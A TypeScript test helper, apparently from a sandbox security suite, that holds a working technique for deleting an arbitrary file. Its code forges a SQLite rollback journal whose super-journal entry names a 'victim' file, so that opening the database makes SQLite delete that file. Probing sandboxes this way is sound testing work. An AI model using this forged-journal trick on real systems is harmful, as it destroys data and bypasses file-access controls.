/** A database whose journal was forged. */

/**
 * `forge(victim)` leaves a database `db` with the journal of a transaction that seems to have spanned several databases. Whoever opens
 * it rolls the transaction back, and SQLite then deletes the file that is said to tie those databases together: the victim.
 */
const FORGE = `
const { DatabaseSync } = process.getBuiltinModule("node:sqlite");
const forge = (victim) => {
  const database = new DatabaseSync("db");
  database.exec("PRAGMA page_size = 4096; CREATE TABLE t (x)");
  database.close();
  const MAGIC = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
  const u32 = (n) => [n >>> 24 & 255, n >>> 16 & 255, n >>> 8 & 255, n & 255];
  const name = Array.from(new TextEncoder().encode(victim));
  // No records, a checksum of none, as many pages as there are, sectors of 512 bytes.
  const header = [...MAGIC, ...u32(0), ...u32(0), ...u32(2), ...u32(512), ...u32(4096)];
  const padding = new Array(512 - header.length).fill(0);
  const sum = name.reduce((a, b) => a + b, 0);
  // The page that SQLite locks by, which is never used, says that a name follows.
  const tie = [...u32(2 ** 30 / 4096 + 1), ...name, ...u32(name.length), ...u32(sum), ...MAGIC];
  Deno.writeFileSync("db-journal", new Uint8Array([...header, ...padding, ...tie]));
};
`;

/** The body of an attempt that uses {@linkcode FORGE}. */
export function forging(body: string): string {
  return FORGE + body;
}
